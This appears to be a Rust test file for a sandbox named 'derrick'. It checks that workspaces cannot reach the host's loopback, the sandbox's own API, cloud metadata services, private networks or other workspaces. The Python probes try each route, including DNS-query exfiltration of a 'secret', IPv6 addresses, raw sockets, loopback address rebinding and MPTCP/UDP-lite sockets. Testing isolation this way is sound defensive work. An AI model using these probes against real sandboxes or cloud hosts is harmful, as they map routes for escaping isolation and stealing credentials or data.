//! P3: no network unless the config asks for it; never the host's loopback, metadata services, private
//! ranges or derrick's own API.

mod support;

use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};

use serde_json::json;
use support::{Derrick, Launch, Workspace, bare};

/// Attempts of a Python program in a workspace, a line for each.
fn attempts(workspace: &Workspace, program: &str) -> String {
    workspace
        .python(&format!("{}{program}", bare::ATTEMPT))
        .expect(0)
}

/// Connects to a port of an address.
fn connect(address: &str, port: u16) -> String {
    format!("attempt('{address}', lambda: socket.create_connection(('{address}', {port}), 30))\n")
}

/// Gives the loopback device of a new network namespace this address, by netdevice(7), and listens there.
fn with_address(address: &str, port: u16) -> String {
    format!(
        "import fcntl
def device(request, name, data):
    control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(control, request, struct.pack('16s24s', name, data))
device(0x8914, b'lo', struct.pack('h', 0x41))
device(0x8916, b'lo:1', struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton('{address}')))
server = socket.create_server(('0.0.0.0', {port}))
"
    )
}

/// A listener on every address of the host.
fn listening() -> (TcpListener, u16) {
    let listener = TcpListener::bind("0.0.0.0:0").expect("cannot listen");
    let port = listener.local_addr().expect("it is bound").port();
    (listener, port)
}

// E-01: services on the host's loopback, and derrick's own API
#[test]
fn reaching_the_hosts_loopback() {
    let (_listener, port) = listening();
    let derrick = Derrick::on_host();
    let api = derrick.api.address().rsplit(':').next().expect("a port");
    let api: u16 = api.parse().expect("a number");
    let attack = format!(
        "{}{}",
        connect("127.0.0.1", port),
        connect("127.0.0.1", api)
    );
    let naive = bare::python_in(&["mount", "pid"], &format!("{}{attack}", bare::ATTEMPT));
    assert_eq!(naive, "127.0.0.1 worked\n127.0.0.1 worked\n");

    let workspace = derrick.create();
    let own = "
server = socket.create_server(('127.0.0.1', 0))
client = socket.create_connection(server.getsockname())
client.sendall(b'hello')
print(server.accept()[0].recv(5).decode())
server = socket.create_server(('::1', 0), family=socket.AF_INET6)
socket.create_connection(server.getsockname()[:2])
print('version 6')
";
    assert_eq!(
        attempts(&workspace, &format!("{own}{attack}")),
        "hello\nversion 6\n127.0.0.1 ECONNREFUSED\n127.0.0.1 ECONNREFUSED\n"
    );
}

// E-02: the host by its own addresses in other networks
#[test]
fn reaching_the_host_by_its_addresses() {
    let (_listener, port) = listening();
    // The address that the host would be reached by; no packet is sent for it.
    let own = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.connect("192.0.2.1:9")?;
        socket.local_addr()
    });
    let mut addresses = vec![Ipv4Addr::new(127, 0, 0, 2).into()];
    addresses.extend(own.map(|address| address.ip()));
    for address in addresses {
        TcpStream::connect((address, port)).expect("the host reaches itself");
        let derrick = Derrick::on_host();
        let tried = attempts(&derrick.create(), &connect(&address.to_string(), port));
        let errno = if address.is_loopback() {
            "ECONNREFUSED"
        } else {
            "ENETUNREACH"
        };
        assert_eq!(tried, format!("{address} {errno}\n"));
    }
}

// E-03: the metadata services of clouds
#[test]
fn reaching_metadata_services() {
    reach_nothing(&["169.254.169.254", "100.100.100.200", "169.254.170.2"]);
}

// E-04: private networks, and other workspaces
#[test]
fn reaching_private_networks() {
    reach_nothing(&["10.0.0.1", "172.17.0.1", "192.168.0.1", "198.18.0.1"]);
}

/// Each address answers where there is one of it, and is not there inside.
fn reach_nothing(addresses: &[&str]) {
    let derrick = Derrick::on_host();
    let workspace = derrick.create();
    for address in addresses {
        let attack = connect(address, 8080);
        let naive = format!("{}{}{attack}", bare::ATTEMPT, with_address(address, 8080));
        let naive = bare::python_in(&["net"], &naive);
        assert_eq!(naive, format!("{address} worked\n"));
        let expected = format!("{address} ENETUNREACH\n");
        assert_eq!(attempts(&workspace, &attack), expected);
    }
}

// E-04: another workspace that listens on every address it has
#[test]
fn reaching_another_workspace() {
    let derrick = Derrick::on_host();
    let (one, other) = (derrick.create(), derrick.create());
    let listen = "exec /usr/bin/python3 -uc 'import socket, signal
server = socket.create_server((\"0.0.0.0\", 8080)); print(\"listens\"); signal.pause()'";
    one.exec_sh(listen).until_printed("listens");
    let attack = format!(
        "{}{}",
        connect("127.0.0.1", 8080),
        connect("127.0.0.2", 8080)
    );
    // In its own workspace the same connects.
    let tried = attempts(&one, &attack);
    assert_eq!(tried, "127.0.0.1 worked\n127.0.0.2 worked\n");
    let tried = attempts(&other, &attack);
    assert_eq!(tried, "127.0.0.1 ECONNREFUSED\n127.0.0.2 ECONNREFUSED\n");
}

// E-05: sending data out in names that are looked up
#[test]
fn sending_data_out_in_dns_queries() {
    let resolver = UdpSocket::bind("127.0.0.1:0").expect("cannot listen on loopback");
    let port = resolver.local_addr().expect("it is bound").port();
    let query = |address: &str| {
        format!(
            "attempt('{address}', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('{address}', {port})))\n"
        )
    };
    let attack = query("127.0.0.1");
    bare::python_in(&["mount"], &format!("{}{attack}", bare::ATTEMPT));
    let mut packet = [0; 10];
    assert_eq!(resolver.recv(&mut packet).expect("it comes"), 6);

    resolver
        .set_nonblocking(true)
        .expect("a socket does not block");
    let derrick = Derrick::on_host();
    let workspace = derrick.create();
    // To its own loopback it may send, and nobody is there.
    let tried = attempts(&workspace, &format!("{attack}{}", query("8.8.8.8")));
    assert_eq!(tried, "127.0.0.1 worked\n8.8.8.8 ENETUNREACH\n");
    let nothing = resolver.recv(&mut packet).expect_err("something came");
    assert_eq!(nothing.kind(), std::io::ErrorKind::WouldBlock);
    let lookup = "import socket
try:
    socket.getaddrinfo('secret.example.org', 80)
    print('found')
except socket.gaierror as error:
    print('no answer')
";
    assert_eq!(workspace.python(lookup).expect(0), "no answer\n");
    assert_eq!(workspace.ok("cat /etc/resolv.conf 2> /dev/null; true"), "");
}

// E-09: a setting that is empty or absent, taken for everything is allowed
#[test]
fn leaving_the_network_out_of_the_config() {
    let (_listener, port) = listening();
    let attack = connect("127.0.0.1", port);
    for network in [json!(null), json!("none")] {
        let mut config = json!({ "name": "test", "network": network });
        if network.is_null() {
            config.as_object_mut().expect("an object").remove("network");
        }
        let derrick = Derrick::start(config);
        let tried = attempts(&derrick.create(), &attack);
        assert_eq!(tried, "127.0.0.1 ECONNREFUSED\n", "{network}");
    }
    for network in [json!([]), json!(""), json!({}), json!(false)] {
        let config = json!({ "name": "test", "network": network });
        let said = Launch::new(config).try_start().expect_err("it starts");
        assert!(said.contains("network"), "{network}: {said}");
    }
    // What asks for it has it.
    let derrick = Launch::new(json!({ "name": "test", "network": "host" }))
        .token("a-token-that-the-workspace-does-not-know")
        .start();
    assert_eq!(attempts(&derrick.create(), &attack), "127.0.0.1 worked\n");
}

// E-10: going past the proxy that the environment names
#[test]
fn ignoring_the_proxy_of_the_environment() {
    let derrick = Launch::new(json!({
        "name": "test",
        "env": { "http_proxy": "http://127.0.0.1:1", "https_proxy": "http://127.0.0.1:1" },
    }))
    .start();
    let workspace = derrick.create();
    assert_eq!(workspace.ok("tail -n +2 /proc/net/route"), "");
    let interfaces = workspace.ok("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '");
    let others: Vec<&str> = interfaces
        .lines()
        // Kernels with these tunnels built in show one of each in every new namespace, down.
        .filter(|name| {
            ![
                "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0",
                "ip6gre0",
            ]
            .contains(name)
        })
        .collect();
    assert_eq!(others, ["lo"]);
    let attack = connect("192.0.2.1", 80);
    assert_eq!(attempts(&workspace, &attack), "192.0.2.1 ENETUNREACH\n");
    // Nor can it make itself a way: of the device it has, and of routes, it is not the administrator.
    let make = format!("{}{}", with_address("192.0.2.1", 80), attack);
    let naive = bare::python_in(&["net"], &format!("{}{make}", bare::ATTEMPT));
    assert_eq!(naive, "192.0.2.1 worked\n");
    let ran = workspace.python(&format!("{}{make}", bare::ATTEMPT));
    assert!(
        ran.output.contains("PermissionError: [Errno 1]"),
        "{}",
        ran.output
    );
}

// E-11: version 6, which was forgotten
#[test]
fn going_out_by_ipv6() {
    let addresses = [
        "2001:db8::1",
        "fd00:ec2::254",
        "fe80::1%lo",
        "::ffff:192.0.2.1",
    ];
    let attack: String = addresses.map(|address| connect(address, 80)).concat();
    let derrick = Derrick::on_host();
    let workspace = derrick.create();
    let tried = attempts(&workspace, &attack);
    for line in tried.lines() {
        let refused = ["ENETUNREACH", "EADDRNOTAVAIL", "ECONNREFUSED"];
        assert!(refused.iter().any(|errno| line.ends_with(errno)), "{tried}");
    }
    assert_eq!(tried.lines().count(), addresses.len(), "{tried}");
    // A router's advertisement would need a raw socket to be made and another device to come in by.
    let routes = workspace.ok("awk '$10 != \"lo\"' /proc/net/ipv6_route");
    assert_eq!(routes, "");
    let raw = "attempt('raw', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))\n";
    let naive = bare::python_in(&["net"], &format!("{}{raw}", bare::ATTEMPT));
    assert_eq!(naive, "raw worked\n");
    assert_eq!(attempts(&workspace, raw), "raw EPERM\n");
}

// E-14: protocols that a rule about TCP ports does not see
#[test]
fn going_out_by_protocols_that_no_port_rule_sees() {
    let open = "attempt('mptcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt('udplite', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136))
";
    let undefended = Derrick::without(["seccomp"]);
    let tried = attempts(&undefended.create(), open);
    assert!(tried.contains("worked"), "this kernel has neither: {tried}");
    let derrick = Derrick::on_host();
    assert_eq!(
        attempts(&derrick.create(), open),
        "mptcp EPROTONOSUPPORT\nudplite EPROTONOSUPPORT\n"
    );
}
